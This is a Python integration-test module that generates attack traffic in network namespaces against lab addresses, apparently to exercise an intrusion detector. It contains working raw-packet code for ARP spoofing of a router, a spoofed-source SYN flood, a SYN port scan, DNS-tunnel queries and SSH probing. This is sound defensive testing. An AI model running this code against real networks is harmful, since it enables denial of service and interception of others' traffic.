"""`python -m tests.integration.attackers KIND`: attacks made by hand, and the servers they are aimed at, to be run in network namespaces.

Needs nothing but the standard library and, for what is below IP or TCP, root.
"""

from __future__ import annotations

import base64
import contextlib
import os
import random
import socket
import struct
import sys
import threading
import time
from typing import Final

ATTACKER: Final = "10.9.1.1"
VICTIM: Final = "10.9.1.100"
ROUTER: Final = "10.9.1.254"
ROUTER_MAC, SPOOFER_MAC, VICTIM_MAC = b"\x02\0\0\0\0\xfe", b"\x02\0\0\0\0\x66", b"\x02\0\0\0\0\x64"
LINK: Final = "va"


def serve() -> None:
    """A name server that answers with data, and an SSH server that says its name and hangs up."""
    ssh = socket.create_server(("", 22), backlog=64)
    dns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    dns.bind(("", 53))
    threading.Thread(target=_answer_names, args=(dns,), daemon=True).start()
    print("ready", flush=True)
    while True:
        connection, _ = ssh.accept()
        with connection, contextlib.suppress(OSError):  # a scanner resets it at once
            connection.sendall(b"SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n")
            connection.settimeout(0.5)
            connection.recv(256)


def _answer_names(dns: socket.socket) -> None:
    while True:
        with contextlib.suppress(OSError):  # of a scanner that has gone
            query, client = dns.recvfrom(2048)
            data = os.urandom(60)
            answer = b"\xc0\x0c" + query[-4:] + struct.pack(">IH", 0, len(data)) + data
            dns.sendto(query[:2] + b"\x84\x00" + query[4:6] + b"\0\1\0\0\0\0" + query[12:] + answer, client)


def dns_tunnel() -> None:
    """Queries for NULL records whose names are data in base32, as iodine sends them upstream."""
    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    out.connect((VICTIM, 53))
    for number in range(60):
        labels = [base64.b32encode(os.urandom(35)).decode().lower()[:50] for _ in range(2)]
        name = b"".join(bytes([len(label)]) + label.encode() for label in [*labels, "t", "example", "org"]) + b"\0"
        out.send(struct.pack(">HHHHHH", number, 0x0100, 1, 0, 0, 0) + name + struct.pack(">HH", 10, 1))
        time.sleep(0.04)


def ssh() -> None:
    """Thirty logins that end after the greeting."""
    for _ in range(30):
        with socket.create_connection((VICTIM, 22), timeout=3) as connection:
            connection.recv(256)
            connection.sendall(b"SSH-2.0-libssh_0.9.6\r\n")
            connection.settimeout(1)
            with contextlib.suppress(OSError):
                connection.recv(256)
        time.sleep(0.05)


def arp_spoof() -> None:
    """The router says who it is; then another claims its address towards a host, again and again."""
    out = _raw()
    router, victim = socket.inet_aton(ROUTER), socket.inet_aton(VICTIM)
    out.send(_arp(b"\xff" * 6, ROUTER_MAC, 1, router, bytes(6), router))
    time.sleep(0.2)
    for _ in range(8):
        out.send(_arp(VICTIM_MAC, SPOOFER_MAC, 2, router, VICTIM_MAC, victim))
        time.sleep(0.1)


def syn_scan() -> None:
    """What nmap -sS sends: a SYN to each of 120 ports."""
    _probes(range(1, 121), 0x02, 0.01)


def syn_flood() -> None:
    """SYNs to one port in the name of others, some thousand a second for two seconds."""
    out, end = _raw(), time.monotonic() + 2
    while time.monotonic() < end:
        for _ in range(20):
            source = bytes([10, random.randrange(1, 9), random.randrange(256), random.randrange(1, 255)])
            out.send(_syn(source, random.randrange(1024, 65535), 80, 0x02))
        time.sleep(0.005)


def _probes(ports: range, flags: int, pause: float) -> None:
    out = _raw()
    for port in ports:
        out.send(_syn(socket.inet_aton(ATTACKER), 40_000, port, flags))
        time.sleep(pause)


def _raw() -> socket.socket:
    out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    out.bind((LINK, 0))
    return out


def _arp(to: bytes, sender: bytes, operation: int, ip: bytes, target: bytes, target_ip: bytes) -> bytes:
    head = to + sender + b"\x08\x06" + struct.pack(">HHBBH", 1, 0x0800, 6, 4, operation)
    return head + sender + ip + target + target_ip + bytes(18)


def _syn(source: bytes, port: int, to: int, flags: int) -> bytes:
    target = socket.inet_aton(VICTIM)
    tcp = struct.pack(">HHIIBBHHH", port, to, random.getrandbits(32), 0, 0x50, flags, 1024, 0, 0)
    tcp = tcp[:16] + _checksum(source + target + b"\0\6" + struct.pack(">H", 20) + tcp) + tcp[18:]
    head = struct.pack(">BBHHHBBH", 0x45, 0, 40, random.getrandbits(16), 0, 64, 6, 0) + source + target
    return VICTIM_MAC + SPOOFER_MAC + b"\x08\x00" + head[:10] + _checksum(head) + head[12:] + tcp


def _checksum(data: bytes) -> bytes:
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return struct.pack(">H", ~total & 0xFFFF)


KINDS: Final = {one.__name__: one for one in (serve, dns_tunnel, ssh, arp_spoof, syn_scan, syn_flood)}

if __name__ == "__main__":
    KINDS[sys.argv[1]]()
